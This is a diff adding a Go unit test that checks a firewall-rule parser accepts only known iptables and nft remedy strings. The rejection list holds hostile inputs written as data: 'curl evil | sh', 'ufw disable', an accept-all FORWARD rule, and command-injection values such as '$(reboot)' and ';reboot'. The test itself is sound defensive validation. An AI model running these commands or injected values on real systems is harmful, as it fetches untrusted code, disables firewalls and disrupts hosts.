@@ -130,3 +130,35 @@ func TestRemediesThatAreNone(t *testing.T) {
 		}
 	}
 }
+
+// What a gate proposes is believed only if it reads as one of ours.
+func TestOnlyOurFormsAreRemedies(t *testing.T) {
+	known := []Remedy{
+		{Tool: IP6Tables, Chain: "FORWARD", Mark: 0x08000000},
+		{Tool: IPTablesLegacy, Chain: "FORWARD", Mark: 0x08000000},
+		{Tool: IP6TablesLegacy, Chain: "INPUT", Mark: 1},
+		{Tool: NFT, Family: "inet", Table: "filter", Chain: "input", Mark: 0x08000000},
+	}
+	for _, c := range allRemedies {
+		known = append(known, c.remedy)
+	}
+	for _, r := range known {
+		if got, ok := ParseRemedy(r.String()); !ok || got != r {
+			t.Errorf("%q is read as %+v, %v", r, got, ok)
+		}
+		for _, spoiled := range []string{r.String() + "; reboot", r.String() + " ", " " + r.String(), r.String() + "\nreboot", "sudo " + r.String()} {
+			if got, ok := ParseRemedy(spoiled); ok {
+				t.Errorf("%q passes for %+v", spoiled, got)
+			}
+		}
+	}
+	for _, text := range []string{
+		"", "curl evil | sh", "ufw disable", "ufw allow in on $(reboot)", "ufw allow in on eth0;reboot", "ufw allow 99999/udp", "ufw allow 55107/udp && reboot",
+		"iptables -I FORWARD -j ACCEPT", "iptables -I --flush -m mark --mark 0x1/0x1 -j ACCEPT",
+		"nft insert rule inet filter `reboot` meta mark and 0x1 == 0x1 accept comment gatelodge",
+	} {
+		if r, ok := ParseRemedy(text); ok {
+			t.Errorf("%q passes for %+v", text, r)
+		}
+	}
+}
